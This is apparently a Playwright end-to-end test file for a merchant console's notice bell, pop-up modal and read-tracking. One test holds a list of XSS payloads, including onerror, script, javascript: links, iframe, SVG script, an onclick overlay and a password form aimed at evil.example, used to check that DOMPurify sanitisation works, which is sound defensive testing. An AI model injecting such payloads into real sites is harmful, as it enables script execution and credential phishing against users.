import { expect, test, type Page } from '@playwright/test';
import { ENDPOINTS } from '@console/contract';
import { answerOf, apiUrl } from './api-support';
import { typeAddress } from './shell-support';
import { signIn } from './support';

// Each test uses a merchant of its own: the read state of notices is kept in the database.

/** Signs in and answers the merchant info's pop-up notice (null when there is none). */
async function signInWithInfo(page: Page, account: string) {
  const info = page.waitForResponse((r) => r.url().endsWith(apiUrl(ENDPOINTS.merchantInfo)) && r.ok());
  await signIn(page, account);
  const body = await answerOf(await info, ENDPOINTS.merchantInfo);
  return body.data;
}

/**
 * 13800000052 is the merchant of partner 52, whose unread transfer notices queue in the same
 * modal after the pop-up: answered empty here (transfer-notices.spec.ts tests them).
 */
async function withoutTransferNotices(page: Page) {
  await page.route(`**${apiUrl(ENDPOINTS.transferNotice)}`, (route) =>
    route.fulfill({ json: { code: 1, msg: '', data: { list: [] } } }),
  );
}

/** The count of the bell's badge; 0 when the badge is hidden. */
async function badgeCount(page: Page): Promise<number> {
  const sup = page.getByTestId('notice-bell').locator('sup.ant-badge-count');
  if ((await sup.count()) === 0) return 0;
  return Number(await sup.getAttribute('title'));
}

const modal = (page: Page) =>
  page.getByRole('dialog').filter({ has: page.getByTestId('notice-modal-confirm') });

test('the pop-up notice, confirmed, is read; the bell counts down and lists the notices', async ({
  page,
}) => {
  const info = await signInWithInfo(page, '13900000003');
  expect(info.notice).not.toBeNull();
  const popup = modal(page);
  await expect(popup).toContainText(info.notice!.title);
  await expect(page.getByTestId('notice-bell')).toBeVisible();
  await expect.poll(() => badgeCount(page), { timeout: 20_000 }).toBe(info.notReadCount);

  const read = page.waitForResponse((r) => r.url().endsWith(apiUrl(ENDPOINTS.readNotice)));
  await popup.getByTestId('notice-modal-confirm').click();
  expect((await read).ok()).toBe(true);
  await expect(popup).toBeHidden();
  await expect.poll(() => badgeCount(page), { timeout: 20_000 }).toBe(info.notReadCount - 1);
  // The dashboard counts what the bell counts, and follows it while open (below).
  await typeAddress(page, '/dashboard');
  const dashboardUnread = page.getByTestId('dashboard-notices').locator('.ant-statistic-content-value');
  await expect(dashboardUnread).toHaveText(String(info.notReadCount - 1));

  // The bell: the demo notices, the read ones dimmed.
  await page.getByTestId('notice-bell').click();
  const items = page.getByTestId('notice-bell-item');
  await expect(items).toHaveCount(3);
  await expect(items.filter({ hasText: info.notice!.title })).toHaveAttribute('data-read', '1');
  await expect(items.filter({ hasText: '系统维护通知' })).toHaveAttribute('data-read', '1');
  const html = items.filter({ hasText: '新品上架' });
  await expect(html).toHaveAttribute('data-read', '0');

  // A click marks it read and opens it; the demo HTML is sanitised but keeps its formatting.
  await html.click();
  const dialog = modal(page);
  await expect(dialog.getByTestId('notice-modal-title')).toHaveText('新品上架：5G 畅享套餐');
  const content = dialog.getByTestId('notice-content');
  await expect(content.locator('strong')).toHaveText('5G 畅享 129 元套餐');
  await expect(content.locator('a')).toHaveAttribute('target', '_blank');
  await expect(content.locator('a')).toHaveAttribute('rel', 'noopener noreferrer');
  await expect(content.locator('script, iframe, [onerror], [onclick]')).toHaveCount(0);
  await expect.poll(() => badgeCount(page), { timeout: 20_000 }).toBe(info.notReadCount - 2);
  await dialog.getByTestId('notice-modal-confirm').click();
  await expect(dialog).toBeHidden();
  await expect(dashboardUnread).toHaveText(String(info.notReadCount - 2));

  // The count stays down after a reload (the server has it), never below 0.
  await page.reload();
  await expect(page.getByTestId('notice-bell')).toBeVisible();
  await expect.poll(() => badgeCount(page), { timeout: 20_000 }).toBe(Math.max(0, info.notReadCount - 2));
  await expect(modal(page)).toBeHidden();
});

test('the notice modal walks a sequence: next and previous mark read, confirm on the last closes', async ({
  page,
}) => {
  await signInWithInfo(page, '13900000004');
  // The pop-up first: confirmed, it is read.
  await modal(page).getByTestId('notice-modal-confirm').click();
  await expect(modal(page)).toBeHidden();

  await page.getByTestId('notice-bell').click();
  await page.getByTestId('notice-bell-all').click();
  await expect(page).toHaveURL(/#\/notices$/);
  const titles = page.getByTestId('notices-row-title');
  await expect(titles).toHaveCount(3);
  await expect(page.getByTestId('notices-unread-count')).toContainText('1');

  const reads: number[] = [];
  page.on('request', (r) => {
    if (r.url().endsWith(apiUrl(ENDPOINTS.readNotice)))
      reads.push((r.postDataJSON() as { notice_id: number }).notice_id);
  });

  // Newest first: the pop-up (read), the HTML notice (unread), the maintenance notice (read).
  await titles.first().click();
  const dialog = modal(page);
  await expect(dialog.getByTestId('notice-modal-counter')).toHaveText('1 / 3');
  await expect(dialog.getByTestId('notice-modal-prev')).toBeDisabled();
  await dialog.getByTestId('notice-modal-next').click();
  await expect(dialog.getByTestId('notice-modal-title')).toHaveText('新品上架：5G 畅享套餐');
  await expect(dialog.getByTestId('notice-modal-counter')).toHaveText('2 / 3');
  expect(reads).toHaveLength(0); // the pop-up left behind was read already
  // Moving on from the unread HTML notice marks it read.
  await dialog.getByTestId('notice-modal-next').click();
  await expect(dialog.getByTestId('notice-modal-counter')).toHaveText('3 / 3');
  await expect.poll(() => reads.length).toBe(1);
  await expect(page.getByTestId('notices-unread-count')).toContainText('0');
  await expect(dialog.getByTestId('notice-modal-next')).toBeDisabled();
  await dialog.getByTestId('notice-modal-prev').click();
  await expect(dialog.getByTestId('notice-modal-counter')).toHaveText('2 / 3');
  await dialog.getByTestId('notice-modal-confirm').click(); // confirm moves on...
  await expect(dialog.getByTestId('notice-modal-counter')).toHaveText('3 / 3');
  await dialog.getByTestId('notice-modal-confirm').click(); // ...and closes on the last
  await expect(dialog).toBeHidden();
  // Read notices are not marked again, and the count never goes below 0.
  expect(reads).toHaveLength(1);
  await expect.poll(() => badgeCount(page), { timeout: 20_000 }).toBe(0);
  await expect(page.getByTestId('notices-unread-count')).toContainText('0');

  // The unread-only filter and the title search.
  await page.getByTestId('notices-unread-only').click();
  await expect(titles).toHaveCount(0);
  await page.getByTestId('notices-unread-only').click();
  await expect(titles).toHaveCount(3);
  await page.getByTestId('notices-search').fill('维护');
  await expect(titles).toHaveCount(1);
  await expect(titles).toHaveText('系统维护通知');
});

test('a malicious HTML notice stays inert in the browser', async ({ page }) => {
  const payload = [
    '<p id="kept">hello <strong>merchant</strong></p>',
    '<img src="https://cdn.example/x.png" onerror="window.__pwned = 1">',
    '<script>window.__pwned = 2</script>',
    '<a id="js" href="javascript:window.__pwned = 3">js</a>',
    '<a id="ok" href="https://example.com/goods" target="_self">ok</a>',
    '<iframe src="javascript:window.top.__pwned = 4"></iframe>',
    '<svg><script>window.__pwned = 5</script><a href="javascript:window.__pwned = 6">svg</a></svg>',
    '<div onclick="window.__pwned = 7" style="position:fixed;inset:0">overlay</div>',
    '<form action="https://evil.example/"><input name="pwd"><button>send</button></form>',
  ].join('');
  const evil = {
    id: 990001,
    title: '恶意公告',
    content: payload,
    type: 'html',
    create_time: new Date().toISOString(),
    is_read: 1,
  };
  // The demo database has no such notice: the list answer is replaced in the browser, the
  // rendering path (bell → modal → DOMPurify) is the real one.
  await page.route(`**${apiUrl(ENDPOINTS.noticeList)}`, async (route) => {
    const response = await route.fetch();
    const body = (await response.json()) as { data: { list: unknown[]; total: number } };
    body.data.list = [evil, ...body.data.list].slice(0, 5);
    body.data.total += 1;
    await route.fulfill({ response, json: body });
  });
  const dialogs: string[] = [];
  page.on('dialog', (d) => {
    dialogs.push(d.message());
    void d.dismiss();
  });

  const info = await signInWithInfo(page, '13900000005');
  if (info.notice) await modal(page).getByTestId('notice-modal-confirm').click();
  await expect(modal(page)).toBeHidden();
  await page.getByTestId('notice-bell').click();
  await page.getByTestId('notice-bell-item').filter({ hasText: '恶意公告' }).click();
  const content = modal(page).getByTestId('notice-content');
  await expect(content.locator('#kept strong')).toHaveText('merchant');
  await expect(content.locator('script, iframe, form, input, button, style')).toHaveCount(0);
  const attributes = await content.evaluate((root) =>
    [...root.querySelectorAll('*')].flatMap((el) =>
      el.getAttributeNames().map((n) => `${n}=${el.getAttribute(n)}`),
    ),
  );
  expect(attributes.filter((a) => /^on|^style=|javascript:/i.test(a))).toEqual([]);
  await expect(content.locator('#js')).not.toHaveAttribute('href', /./);
  await expect(content.locator('#ok')).toHaveAttribute('target', '_blank');
  await expect(content.locator('#ok')).toHaveAttribute('rel', 'noopener noreferrer');
  await content.locator('#js').click();
  await content.getByText('overlay').click();
  expect(await page.evaluate(() => (window as { __pwned?: number }).__pwned)).toBeUndefined();
  expect(dialogs).toEqual([]);
});

test('the pop-up shows once per browser session', async ({ page, browser }) => {
  // Reading is answered in the browser, so the server keeps offering the pop-up: only the
  // session memory keeps it from showing again.
  await page.route(`**${apiUrl(ENDPOINTS.readNotice)}`, (route) =>
    route.fulfill({ json: { code: 1, msg: '', data: { notReadCount: 1 } } }),
  );
  await withoutTransferNotices(page);
  const info = await signInWithInfo(page, '13800000052');
  expect(info.notice).not.toBeNull();
  await expect(modal(page)).toContainText(info.notice!.title);
  await modal(page).getByTestId('notice-modal-confirm').click();
  await expect(modal(page)).toBeHidden();

  const again = page.waitForResponse((r) => r.url().endsWith(apiUrl(ENDPOINTS.merchantInfo)));
  await page.reload();
  const body = await answerOf(await again, ENDPOINTS.merchantInfo);
  expect(body.data.notice?.id).toBe(info.notice!.id); // still offered by the server...
  await expect(page.getByTestId('notice-bell')).toBeVisible();
  await page.waitForTimeout(1000);
  await expect(modal(page)).toBeHidden(); // ...but not shown again in this session

  // A new browser session shows it again.
  const context = await browser.newContext({ baseURL: test.info().project.use.baseURL, locale: 'zh-CN' });
  const other = await context.newPage();
  await withoutTransferNotices(other);
  await signInWithInfo(other, '13800000052');
  await expect(modal(other)).toContainText(info.notice!.title);
  await context.close();
});

test('a special merchant has no bell, no task popover and no pop-up', async ({ page }) => {
  const info = await signInWithInfo(page, '13800000099');
  await expect(page.getByTestId('header-actions')).toBeVisible();
  await expect(page.getByTestId('notice-bell')).toHaveCount(0);
  await expect(page.getByTestId('task-popover')).toHaveCount(0);
  if (info.notice) {
    await page.waitForTimeout(1000);
    await expect(modal(page)).toBeHidden();
  }
});

test("a notice read in one tab counts down the other tab's bell at once (the live stream, not the 30 s poll)", async ({
  page,
  context,
}) => {
  const info = await signInWithInfo(page, '13900000006');
  expect(info.notice).not.toBeNull();
  await expect.poll(() => badgeCount(page), { timeout: 20_000 }).toBe(info.notReadCount);
  // A second tab of the same browser session: signed in by the same cookie.
  const other = await context.newPage();
  const stream = other.waitForResponse((r) => r.url().endsWith('/api/events'));
  await other.goto('#/dashboard');
  expect((await stream).headers()['content-type']).toMatch(/^text\/event-stream/);
  await expect.poll(() => badgeCount(other), { timeout: 20_000 }).toBe(info.notReadCount);

  await modal(page).getByTestId('notice-modal-confirm').click();
  await expect(modal(page)).toBeHidden();
  await expect.poll(() => badgeCount(other), { timeout: 5_000 }).toBe(info.notReadCount - 1);
  await other.close();
});
